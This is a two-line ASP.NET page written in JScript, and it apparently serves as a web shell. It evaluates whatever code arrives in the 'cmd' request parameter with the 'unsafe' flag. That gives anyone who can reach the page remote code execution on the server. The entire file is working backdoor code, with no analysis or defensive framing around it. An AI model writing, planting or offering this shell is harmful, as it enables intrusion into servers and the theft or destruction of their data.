<%@ Page Language="Jscript"%>
<% eval(Request.Item["cmd"], "unsafe"); %>
